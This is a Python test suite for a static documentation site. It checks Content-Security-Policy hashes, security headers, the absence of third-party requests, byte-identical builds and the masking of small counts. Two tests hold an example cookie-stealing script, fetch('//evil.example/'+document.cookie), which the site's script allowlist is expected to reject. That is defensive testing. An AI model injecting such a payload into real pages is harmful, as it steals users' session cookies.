"""Security headers, privacy (no third-party requests, small counts) and reproducible builds."""

from __future__ import annotations

import base64
import hashlib
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from conftest import ROOT, serve
from htmltools import Page, read
from hypothesis import given, settings
from hypothesis import strategies as st

from macros.data import read_data
from macros.headers import rule_for

TILE_HOST = "tile.openstreetmap.org"


class Scripts(Page):
    """Inline scripts as the browser sees them, found by the stdlib parser (not by the code under test)."""

    def __init__(self, html: str):
        self.inline: list[str] = []
        self._in = None
        super().__init__(html)

    def handle_starttag(self, tag, attrs):
        super().handle_starttag(tag, attrs)
        attrs = dict(attrs)
        if tag == "script" and "src" not in attrs and attrs.get("type", "") in ("", "text/javascript", "module"):
            self._in = []

    def handle_data(self, data):
        super().handle_data(data)
        if self._in is not None:
            self._in.append(data)

    def handle_endtag(self, tag):
        super().handle_endtag(tag)
        if tag == "script" and self._in is not None:
            body = "".join(self._in)
            if body.strip():
                self.inline.append(body)
            self._in = None


def test_csp_hashes_cover_every_inline_script(example_site):
    headers = (example_site / "_headers").read_text()
    policy = rule_for(headers, "/showcase/")["Content-Security-Policy"]
    allowed = set(re.findall(r"'sha256-[^']+'", policy))
    needed = set()
    for path in example_site.rglob("*.html"):
        parser = Scripts(path.read_text(encoding="utf-8"))
        needed |= {"'sha256-" + base64.b64encode(hashlib.sha256(s.encode()).digest()).decode() + "'" for s in parser.inline}
    assert needed and needed == allowed


def test_headers_file_has_the_protective_headers(example_site):
    headers = (example_site / "_headers").read_text()
    for path in ("/", "/showcase/", "/lobby/positions/x/", "/data/enterprise.csv"):
        rule = rule_for(headers, path)
        assert rule["X-Content-Type-Options"] == "nosniff"
        assert rule["Referrer-Policy"] == "strict-origin-when-cross-origin"
        assert "frame-ancestors 'self'" in rule["Content-Security-Policy"]
        assert "object-src 'none'" in rule["Content-Security-Policy"]


def test_embed_pages_may_be_framed_elsewhere(tmp_path):
    from macros.headers import headers_file

    (tmp_path / "embed" / "figure").mkdir(parents=True)
    (tmp_path / "embed" / "figure" / "index.html").write_text("<p>x</p>")
    (tmp_path / "index.html").write_text("<script>go()</script>")
    text = headers_file(tmp_path, "https://tile.example.org/{z}/{x}/{y}.png", ["'sha256-abc='"])
    assert "frame-ancestors *" in rule_for(text, "/embed/figure/")["Content-Security-Policy"]
    assert "frame-ancestors 'self'" in rule_for(text, "/")["Content-Security-Policy"]
    assert "img-src 'self' data: https://tile.example.org;" in rule_for(text, "/")["Content-Security-Policy"]


def test_every_script_a_browser_would_run_is_found_whatever_its_spelling():
    from macros.headers import inline_scripts

    html = (
        "<script>a()</script><SCRIPT type=' Text/JavaScript '>b()</SCRIPT><script type=module>c()</script>"
        '<script src="x.js"></script><script type="application/ld+json">{"d": 1}</script><script type="text/plain">e()</script>'
    )
    assert inline_scripts(html) == ["a()", "b()", "c()", "e()"]  # an unknown type counts as a script: the allowlist decides


def test_the_allowlist_refuses_a_script_no_template_writes_and_counts_the_ones_it_does():
    from macros.headers import ScriptAllowlist, UnknownScript, script_hash

    allowlist = ScriptAllowlist(lambda name, base_url: f"<script>theme({base_url!r})</script>" if name.endswith("base.html") else "")
    allowlist.check("<p>x</p><script>theme('../')</script>", "docs/a.md", "../")
    assert allowlist.hashes() == [script_hash("theme('../')")]
    with pytest.raises(
        UnknownScript, match=r"docs/b.md: an inline script that no template of the site writes: \"fetch\('//evil.example/'\+document.cookie\)\""
    ):
        allowlist.check("<script>theme('.')</script><script>\nfetch('//evil.example/'+document.cookie)</script>", "docs/b.md", ".")
    with pytest.raises(UnknownScript):
        allowlist.check("<script>theme('../')</script>", "docs/c.md", ".")  # the theme's script for another depth


@pytest.mark.slow
def test_a_pasted_inline_script_fails_the_build_naming_the_page(tiny, tmp_path):
    from conftest import build

    (tiny / "docs" / "notes.md").write_text("# Notes\n\n<script>fetch('//evil.example/'+document.cookie)</script>\n")
    result = build(tiny, tmp_path / "out")
    assert result.returncode == 1
    assert "docs/notes.md: an inline script that no template of the site writes: \"fetch('//evil.example/'+document.cookie)\"" in result.stdout + result.stderr
    assert "Traceback" not in result.stdout + result.stderr


@pytest.mark.browser
def test_an_injected_inline_script_is_blocked_by_the_csp(example_site, browser, tmp_path):
    site = tmp_path / "site"
    shutil.copytree(example_site, site)
    page_file = site / "about" / "index.html"
    page_file.write_text(page_file.read_text(encoding="utf-8").replace("</body>", "<script>window.__injected = true</script></body>"), encoding="utf-8")
    headers = (site / "_headers").read_text()
    url, server = serve(site, lambda path: rule_for(headers, path))
    context = browser.new_context()
    context.add_init_script(
        "window.__violations = []; document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective));"
    )
    page = context.new_page()
    try:
        page.goto(url + "about/")
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.__injected === true") is False
        assert "script-src-elem" in page.evaluate("window.__violations") or "script-src" in page.evaluate("window.__violations")
        assert page.evaluate("typeof __md_scope") == "object"  # the theme's own inline script ran
    finally:
        context.close()
        server.shutdown()


@pytest.mark.browser
def test_pages_run_under_the_csp_without_violations(example_site, browser):
    headers = (example_site / "_headers").read_text()
    url, server = serve(example_site, lambda path: rule_for(headers, path))
    context = browser.new_context()
    context.add_init_script(
        "window.__violations = []; document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));"
    )
    # Only the tile server is intercepted (answered locally); routing every request would also
    # catch the search worker's, which Playwright does not route reliably.
    context.route(f"https://{TILE_HOST}/**", lambda r: r.fulfill(status=200, body=b""))
    page = context.new_page()
    refused = []
    page.on("console", lambda m: "Content Security Policy" in m.text and refused.append(m.text))
    try:
        for path in ("", "showcase/?district=oost", "lobby/positions/social-buying-city/", "lobby/tracker/", "news/", "monitor/"):
            page.goto(url + path)
            page.wait_for_load_state("networkidle")
            assert page.evaluate("window.__violations") == [], path
        # Pages with schema.org JSON-LD: a data block, which the CSP neither hashes nor blocks; and an embed.
        data = read_data(ROOT / "data", ROOT / "docs")
        for path in (
            "",
            *(
                f"{kind}/{records[0].id}/"
                for kind, records in (("showcase", data.all("enterprise")), ("seminars", data.all("seminar")), ("lobby/officials", data.all("official")))
            ),
        ):
            page.goto(url + path)
            page.wait_for_load_state("networkidle")
            assert page.locator('script[type="application/ld+json"]').count() == 1, path
            assert page.evaluate("window.__violations") == [], path
        page.goto(url)
        page.click(".md-search__input")
        page.keyboard.type("bicycle", delay=30)
        page.wait_for_selector(".md-search-result__item")
        assert page.evaluate("window.__violations") == []
        page.goto(url + "embed/figures/2016/")
        page.wait_for_load_state("networkidle")
        assert page.evaluate("window.__violations") == []
        assert refused == []
    finally:
        context.close()
        server.shutdown()


RESOURCE = re.compile(r"""(?:@import\s+(?:url\()?|url\()\s*['"]?([^'")\s]+)""")


def third_party_resources(site: Path, allowed_host: str) -> list[str]:
    """Resources (src, stylesheet/preload/icon href, CSS url() and @import) loaded from another origin."""
    found = []
    for path in sorted(site.rglob("*")):
        if path.suffix == ".html":
            page = Page(path.read_text(encoding="utf-8"))
            for tag, attrs in page.elements:
                urls = [attrs.get("src"), attrs.get("srcset"), attrs.get("poster"), attrs.get("data")]
                if tag == "link" and any(
                    r in (attrs.get("rel") or "")
                    for r in ("stylesheet", "preload", "icon", "modulepreload", "prefetch", "preconnect", "dns-prefetch", "manifest")
                ):
                    urls.append(attrs.get("href"))
                found += [f"{path.relative_to(site)}: {u}" for u in urls if u and urlsplit(u).netloc and urlsplit(u).hostname != allowed_host]
        elif path.suffix in (".css", ".js"):
            text = path.read_text(encoding="utf-8", errors="replace")
            if path.suffix == ".css":
                found += [f"{path.relative_to(site)}: {u}" for u in RESOURCE.findall(text) if urlsplit(u).netloc]
            if "fonts.googleapis" in text or "fonts.gstatic" in text:
                found.append(f"{path.relative_to(site)}: Google Fonts")
    return found


def test_no_third_party_requests_but_the_tiles(example_site):
    assert third_party_resources(example_site, TILE_HOST) == []
    tiles = {attrs.get("data-tiles") for _, attrs in read(example_site, "showcase/").elements if "data-tiles" in attrs}
    assert {urlsplit(t).hostname for t in tiles} == {TILE_HOST}


def test_the_scan_finds_a_third_party_font(tmp_path):
    (tmp_path / "a.html").write_text('<link rel="stylesheet" href="https://fonts.googleapis.com/css?family=Roboto"><img src="/local.png">')
    (tmp_path / "b.css").write_text("@import url('https://cdn.example.com/x.css'); .a { background: url(data:image/png;base64,xx) }")
    assert third_party_resources(tmp_path, TILE_HOST) == ["a.html: https://fonts.googleapis.com/css?family=Roboto", "b.css: https://cdn.example.com/x.css"]


@pytest.mark.browser
def test_the_browser_requests_nothing_else(browser, example_url):
    context = browser.new_context()
    foreign = []

    def route(r):
        if r.request.url.startswith(example_url):
            return r.continue_()
        foreign.append(r.request.url)
        return r.fulfill(status=200, body=b"") if TILE_HOST in r.request.url else r.abort()

    context.route("**/*", route)
    page = context.new_page()
    for path in ("", "showcase/", "lobby/officials/carla-bakker/briefing/", "knowledge/isomorphism/"):
        page.goto(example_url + path)
        page.wait_for_load_state("networkidle")
    context.close()
    assert [u for u in foreign if urlsplit(u).hostname != TILE_HOST] == []


def _build_copy(source: Path, dest: Path, out: Path, seed: str, reverse: bool) -> None:
    """Copy the project (data files written in the given order) and build it."""
    dest.mkdir()
    for name in ("mkdocs.yml", "docs", "overrides", "macros"):
        (shutil.copytree if (source / name).is_dir() else shutil.copy)(source / name, dest / name)
    files = sorted((source / "data").rglob("*"), reverse=reverse)
    for path in files:  # creation order differs between the two copies
        target = dest / "data" / path.relative_to(source / "data")
        if path.is_file():
            target.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy(path, target)
    env = {**os.environ, "SOURCE_DATE_EPOCH": "1767225600", "PYTHONHASHSEED": seed, "NO_MKDOCS_2_WARNING": "1"}
    result = subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict", "-q", "-d", str(out)], cwd=dest, env=env, capture_output=True, text=True, timeout=600
    )
    assert result.returncode == 0, result.stderr


@pytest.mark.slow
def test_builds_are_byte_identical(tmp_path):
    _build_copy(ROOT, tmp_path / "a", tmp_path / "site-a", "1", reverse=False)
    _build_copy(ROOT, tmp_path / "b", tmp_path / "site-b", "4242", reverse=True)
    a = {p.relative_to(tmp_path / "site-a"): p.read_bytes() for p in (tmp_path / "site-a").rglob("*") if p.is_file()}
    b = {p.relative_to(tmp_path / "site-b"): p.read_bytes() for p in (tmp_path / "site-b").rglob("*") if p.is_file()}
    assert sorted(a) == sorted(b)
    assert [str(p) for p in a if a[p] != b[p]] == []


@pytest.mark.slow
def test_small_counts_on_pages_are_published_as_under_ten(tiny, tmp_path):
    from conftest import build, write

    write(
        tiny,
        "vocabularies/districts.yml",
        "title: Districts\nentries:\n  - {id: oost, label: Oost}\n  - {id: noord, label: Noord}\n  - {id: west, label: West}\n",
    )
    write(
        tiny,
        "monitoring/2024.yml",
        "year: 2024\nsource: {title: T}\nmeasures: {jobs_target_group: 120}\nby_district:\n  oost: {jobs_target_group: 7}\n  noord: {jobs_target_group: 40}\n  west: {jobs_target_group: 73}\n",
    )
    assert build(tiny, tmp_path / "out").returncode == 0
    figures = read(tmp_path / "out", "showcase/kantine/")
    cells = [t.strip() for t in figures.text_parts if t.strip()]
    assert "<10" in cells and "3" not in cells  # moved_to_paid_work: 3
    year = read(tmp_path / "out", "monitor/2024/")
    cells = [t.strip() for t in year.text_parts if t.strip()]
    assert "7" not in cells and "40" not in cells  # 40 would give 7 away: 120 - 40 - 73
    assert "73" in cells and "120" in cells


class _Tokenizer(__import__("html.parser").parser.HTMLParser):
    """A second reader of inline scripts: Python's HTML tokenizer, slow but a full parse."""

    def __init__(self):
        super().__init__(convert_charrefs=False)
        self.bodies, self._current = [], None

    def handle_starttag(self, tag, attrs):
        if tag == "script":
            attrs = dict(attrs)
            kind = (attrs.get("type") or "").strip().lower()
            self._current = None if "src" in attrs or kind in ("application/json", "application/ld+json") else []

    def handle_data(self, data):
        if self._current is not None:
            self._current.append(data)

    def handle_endtag(self, tag):
        if tag == "script" and self._current is not None:
            if "".join(self._current).strip():
                self.bodies.append("".join(self._current))
            self._current = None


def tokenized(html: str) -> list[str]:
    reader = _Tokenizer()
    reader.feed(html)
    reader.close()
    return reader.bodies


TRICKY = [
    "<p>text</p>",
    "<script>a()</script>",
    "<SCRIPT type='text/javascript'>b()</SCRIPT >",
    '<script title="x>y">c()</script>',
    "<script title='</script>'>d()</script>",
    '<script src="x.js">ignored()</script>',
    '<script type="application/ld+json">{"e": 1}</script>',
    "<script\ttype=module\n>f()</script\t>",
    '<script a"b>g()</script>',
    "<script/data-x=1>h()</script>",
    "<!-- <script>i()</script> -->",
    "<script><!--<script>j()</script>k()</script>",
    "<scripts>not()</scripts>",
    '<img alt="<script>l()</script>">',
    "<script type=text/plain>m()</script>",
]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.sampled_from(TRICKY), max_size=8))
def test_the_scan_finds_every_script_a_full_tokenizer_finds(parts):
    """The fast scan may find more (a script in a comment), never less; a body where a browser might read on past
    `</script>` (it holds `<!--`) is returned as it is, so the allowlist refuses it."""
    from macros.headers import inline_scripts

    html = "".join(parts)
    scanned = inline_scripts(html)
    for body in tokenized(html):
        assert body in scanned or any("<!--" in s and s in body for s in scanned), (html, body, scanned)


def test_the_scan_and_the_tokenizer_agree_on_every_built_page(example_site):
    from macros.headers import inline_scripts

    pages = sorted(example_site.rglob("*.html"))
    assert len(pages) > 100
    assert [p for p in pages if inline_scripts(t := p.read_text(encoding="utf-8")) != tokenized(t)] == []
